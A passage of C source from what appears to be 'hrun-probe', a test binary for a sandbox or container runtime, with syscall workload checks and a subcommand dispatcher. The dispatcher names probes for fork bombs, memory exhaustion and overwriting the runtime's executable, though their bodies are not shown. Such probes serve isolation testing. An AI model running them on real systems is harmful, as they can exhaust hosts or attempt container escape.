    if (u2 >= 0) close(u2);
}

static volatile sig_atomic_t work_signalled;
static void work_on_signal(int sig) { work_signalled = sig; }

static void work_events(void) {
    int p[2];
    int ok = pipe2(p, O_CLOEXEC) == 0;
    if (ok) {
        struct pollfd pfd = {.fd = p[0], .events = POLLIN};
        ok = write(p[1], "x", 1) == 1 && poll(&pfd, 1, 1000) == 1 && (pfd.revents & POLLIN);
        close(p[0]);
        close(p[1]);
    }
    work_step("pipe_poll", ok);

    int efd = eventfd(0, EFD_CLOEXEC);
    uint64_t v = 3, got = 0;
    ok = efd >= 0 && write(efd, &v, sizeof v) == sizeof v && read(efd, &got, sizeof got) == sizeof got && got == 3;
    work_step("eventfd", ok);
    if (efd >= 0) close(efd);

    int tfd = timerfd_create(CLOCK_MONOTONIC, TFD_CLOEXEC);
    struct itimerspec its = {.it_value = {.tv_sec = 0, .tv_nsec = 5 * 1000 * 1000}};
    uint64_t expirations = 0;
    ok = tfd >= 0 && timerfd_settime(tfd, 0, &its, NULL) == 0 &&
         read(tfd, &expirations, sizeof expirations) == sizeof expirations && expirations >= 1;
    work_step("timerfd", ok);
    if (tfd >= 0) close(tfd);

    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = work_on_signal;
    ok = sigaction(SIGUSR1, &sa, NULL) == 0 && kill(getpid(), SIGUSR1) == 0 && work_signalled == SIGUSR1;
    work_step("signal", ok);
}

static void work_processes_and_files(void) {
    pid_t child = fork();
    if (child == 0) _exit(7);
    int status = 0;
    work_step("fork_wait", child > 0 && waitpid(child, &status, 0) == child && WIFEXITED(status) &&
                               WEXITSTATUS(status) == 7);

    char path[64], moved[72];
    snprintf(path, sizeof path, "/tmp/hrun-work-%d", (int)getpid());
    snprintf(moved, sizeof moved, "%s.moved", path);
    int fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);
    int ok = fd >= 0 && write(fd, "data", 4) == 4 && fsync(fd) == 0;
    if (fd >= 0) close(fd);
    ok = ok && rename(path, moved) == 0 && unlink(moved) == 0;
    work_step("files", ok);

    long page = sysconf(_SC_PAGESIZE);
    char *m = mmap(NULL, (size_t)page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    ok = m != MAP_FAILED;
    if (ok) {
        m[0] = 1;
        ok = mprotect(m, (size_t)page, PROT_READ) == 0 && munmap(m, (size_t)page) == 0;
    }
    work_step("mmap_mprotect", ok);
}

static int cmd_workload(void) {
    work_threads();
    work_sockets();
    work_events();
    work_processes_and_files();
    printf("workload=%s\n", work_failures == 0 ? "ok" : "failed");
    return 0;
}

static int usage(void) {
    fprintf(stderr,
            "usage: hrun-probe [write PATH [DATA] | read PATH | syscall NAME | exit N |\n"
            "                   signal-self SIG | sleep SECONDS | trap-term CODE | fds | stat PATH |\n"
            "                   forkbomb MAX | membomb MIB | workload | exe-scan SECONDS NAME |\n"
            "                   exe-overwrite SECONDS]\n");
    return 2;
}

int main(int argc, char **argv) {
    int rc;
    if (argc < 2 || strcmp(argv[1], "facts") == 0) {
        rc = facts();
    } else if (strcmp(argv[1], "write") == 0 && (argc == 3 || argc == 4)) {
        rc = cmd_write(argv[2], argc == 4 ? argv[3] : NULL);
    } else if (strcmp(argv[1], "read") == 0 && argc == 3) {
        rc = cmd_read(argv[2]);
    } else if (strcmp(argv[1], "syscall") == 0 && argc == 3) {
        rc = cmd_syscall(argv[2]);
    } else if (strcmp(argv[1], "exit") == 0 && argc == 3) {
        long n;
        if (parse_int(argv[2], &n) != 0) return usage();
        fflush(stdout);
        return (int)(n & 0xff);
    } else if (strcmp(argv[1], "signal-self") == 0 && argc == 3) {
        rc = cmd_signal_self(argv[2]);
    } else if (strcmp(argv[1], "sleep") == 0 && argc == 3) {
        rc = cmd_sleep(argv[2]);
    } else if (strcmp(argv[1], "trap-term") == 0 && argc == 3) {
        rc = cmd_trap_term(argv[2]);
    } else if (strcmp(argv[1], "fds") == 0 && argc == 2) {
        rc = cmd_fds();
    } else if (strcmp(argv[1], "stat") == 0 && argc == 3) {
        rc = cmd_stat(argv[2]);
    } else if (strcmp(argv[1], "forkbomb") == 0 && argc == 3) {
        rc = cmd_forkbomb(argv[2]);
    } else if (strcmp(argv[1], "membomb") == 0 && argc == 3) {
        rc = cmd_membomb(argv[2]);
    } else if (strcmp(argv[1], "workload") == 0 && argc == 2) {
        rc = cmd_workload();
    } else if (strcmp(argv[1], "exe-scan") == 0 && argc == 4) {
        rc = cmd_exe_scan(argv[2], argv[3]);
    } else if (strcmp(argv[1], "exe-overwrite") == 0 && argc == 3) {
        rc = cmd_exe_overwrite(argv[2]);
    } else {
        return usage();
    }
    fflush(stdout);
    return rc;
}
